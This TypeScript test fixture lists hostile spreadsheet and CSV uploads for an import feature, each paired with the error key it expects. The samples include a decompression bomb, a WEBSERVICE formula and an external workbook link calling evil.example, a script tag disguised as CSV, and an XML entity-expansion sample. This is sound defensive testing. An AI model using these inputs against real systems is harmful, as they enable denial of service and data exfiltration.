import { makeOffice } from './office-files.ts'
import { makePdf } from './pdf-files.ts'
import { rawWorkbook, type RawWorkbook } from './raw-workbook.ts'

/** A file that must not become rows: what it is, and the keys of what the person reads. */
export interface HostileTable {
  what: string
  name: string
  make: () => Buffer | string | Promise<Buffer>
  keys: string[]
}

const types = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`

const header = row(
  1,
  ['code', 'name', 'seats'].map((text) => `<is><t>${text}</t></is>`),
)

function row(line: number, cells: readonly string[]): string {
  return `<row r="${line}">${cells.map((cell, at) => `<c r="${'ABC'[at]}${line}" t="inlineStr">${cell}</c>`).join('')}</row>`
}

const workbook =
  (rows: string, more: Partial<RawWorkbook> = {}) =>
  () =>
    rawWorkbook({
      sheets: [{ name: 'Sheet1', rows }],
      ...more,
      parts: { '[Content_Types].xml': types, ...more.parts },
    })

/** The bad files of spreadsheets and of who attacks by them. */
export const hostileTables: HostileTable[] = [
  {
    what: 'a locked workbook',
    name: 'a.xlsx',
    make: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4000)]),
    keys: ['upload.locked_or_old'],
  },
  {
    what: 'a bomb',
    name: 'a.xlsx',
    make: () => makeOffice({ type: 'xlsx', parts: { 'xl/worksheets/sheet9.xml': Buffer.alloc(30_000_000) } }),
    keys: ['upload.unreadable'],
  },
  {
    what: 'rows of blanks that shrink to nothing',
    name: 'a.xlsx',
    make: workbook(header + '<row/>'.repeat(300_000)),
    keys: ['upload.unreadable'],
  },
  {
    what: 'a workbook that loads another one',
    name: 'a.xlsx',
    make: () => makeOffice({ type: 'xlsx', links: [['externalLinkPath', 'https://evil.example/a.xlsx']] }),
    keys: ['upload.active_sheet'],
  },
  {
    what: 'a page named csv',
    name: 'a.csv',
    make: () => '<html><script>alert(1)</script>',
    keys: ['upload.unreadable'],
  },
  { what: 'a pdf named xlsx', name: 'a.xlsx', make: () => makePdf(), keys: ['upload.unreadable'] },
  {
    what: 'a million columns',
    name: 'a.csv',
    make: () => `code,name${','.repeat(1_000_000)}\n1,2\n`,
    keys: ['sheet.too_many_columns'],
  },
  {
    what: 'a cell in the last column',
    name: 'a.xlsx',
    make: workbook(`${header}<row r="2"><c r="XFD2"><v>1</v></c></row>`),
    keys: ['sheet.too_many_columns'],
  },
  {
    what: 'a cell a million columns to the right',
    name: 'a.xlsx',
    make: workbook(`${header}<row r="2"><c r="BDWGN2"><v>1</v></c></row>`),
    keys: ['sheet.unreadable'],
  },
  {
    what: 'formulas',
    name: 'a.xlsx',
    make: workbook(
      `${header}<row r="2"><c r="A2"><f>WEBSERVICE("https://evil.example")</f><v>7</v></c><c r="B2" t="inlineStr"><is><t>x</t></is></c></row>`,
    ),
    keys: ['cell.formula'],
  },
  {
    what: 'an entity that grows',
    name: 'a.xlsx',
    make: workbook(header, {
      parts: {
        'xl/sharedStrings.xml': `<!DOCTYPE s [<!ENTITY a "${'x'.repeat(50)}">]><sst><si><t>&a;&a;</t></si></sst>`,
      },
    }),
    keys: ['sheet.unreadable'],
  },
  { what: 'nothing', name: 'a.csv', make: () => '', keys: ['sheet.empty'] },
  { what: 'zero bytes', name: 'a.csv', make: () => Buffer.alloc(3000), keys: ['sheet.undecodable'] },
  {
    what: 'a quotation mark without end',
    name: 'a.csv',
    make: () => `code,name\n1,"${'x'.repeat(5000)}\n`,
    keys: ['sheet.unclosed_quote'],
  },
  {
    what: 'a cell without end',
    name: 'a.csv',
    make: () => `code,name\n1,${'x'.repeat(2_000_000)}\n`,
    keys: ['sheet.too_long_cell'],
  },
  { what: 'no header that is known', name: 'a.csv', make: () => 'x,y\n1,2\n', keys: ['import.no_headers'] },
]
